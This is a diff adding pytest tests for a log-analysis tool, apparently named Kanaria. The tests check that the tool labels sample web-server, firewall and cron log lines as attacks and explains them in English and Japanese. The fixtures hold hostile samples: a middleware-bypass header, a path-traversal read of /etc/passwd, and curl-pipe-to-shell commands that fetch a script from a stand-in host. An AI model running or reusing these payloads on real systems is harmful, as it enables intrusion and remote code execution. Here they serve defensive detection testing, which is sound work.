@@ -1,0 +1,74 @@
+"""Sentences of the answer say what was seen: by the command, over logs of kinds that people bring, in both languages."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from tests.app.running import Kanaria
+from tests.app.test_records_of_others import hear
+
+STRANGER = "203.0.113.7"
+WHEN = "[10/Jan/2026:09:00:00 +0000]"
+RATE = (
+    "Jan 10 2026 09:10:00 fw01 : %ASA-4-733101: Host {} is attacking. Current burst rate is 200 per second, max "
+    "configured rate is 10; Current average rate is 8 per second, max configured rate is 5; Cumulative total count is 5023"
+)
+PROGRAM = ("a program of the sender's", "送信者のプログラム")
+RIGHT = ("its sender has no right to", "本来許されていない操作")
+
+INTENTIONS = {
+    "a header that leaves out the logon": (
+        json.dumps({
+            "level": "info", "ts": 1764931200.12, "logger": "http.log.access.log0", "msg": "handled request",
+            "request": {
+                "remote_ip": STRANGER, "proto": "HTTP/1.1", "method": "GET", "host": "shop.example.org", "uri": "/admin",
+                "headers": {"X-Middleware-Subrequest": ["middleware:middleware:middleware:middleware:middleware"]},
+            },
+            "duration": 0.021, "size": 212, "status": 200,
+        }),
+        RIGHT,
+    ),
+    "a file that is read": (
+        f'{STRANGER} - - {WHEN} "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1" 404 196 "-" "-"', RIGHT,
+    ),
+    "a program that is fetched": (
+        f'{STRANGER} - - {WHEN} "GET /?cmd=curl+http://203.0.113.9/x.sh|sh HTTP/1.1" 404 196 "-" "-"', PROGRAM,
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", INTENTIONS)
+def test_what_an_attack_wants_is_what_it_carries(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
+    line, wanted = INTENTIONS[name]
+    said = hear(kanaria, tmp_path, line + "\n")
+    assert [one["hypotheses"][0]["name"] for one in said.document["incidents"]] == ["exploitation_attempt"]
+    assert all(words in said.words for words in wanted)
+    assert not any(words in said.words for words in {*PROGRAM, *RIGHT} - {*wanted})
+
+
+def test_a_counter_of_a_firewall_accuses_no_busy_server(kanaria: Kanaria, tmp_path: Path) -> None:
+    said = hear(kanaria, tmp_path, RATE.format("192.168.1.20") + "\n")
+    assert (said.severity, said.rules) == ("informational", {"sensor_scan_by_rate"})
+    assert "isolate" not in said.advice
+    assert "busy proxies and servers" in said.words and "利用者の多いプロキシやサーバ" in said.words
+
+
+def test_the_zone_of_a_machine_is_named_in_the_readers_language(
+    kanaria: Kanaria, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import time
+
+    monkeypatch.setenv("TZ", "Asia/Tokyo")
+    time.tzset()
+    try:
+        (tmp_path / "auth.log").write_text(
+            "Jan 10 09:00:00 web1 CRON[900]: (root) CMD (curl -s http://203.0.113.9/x.sh | sh)\n"
+        )
+        told = kanaria("analyze", "--lang", "ja", "auth.log", TZ="Asia/Tokyo").out.replace("\n", "")
+    finally:
+        monkeypatch.undo()
+        time.tzset()
+    assert "system's zone" not in told and "このシステムのタイムゾーン、UTC+09:00 の時刻" in told
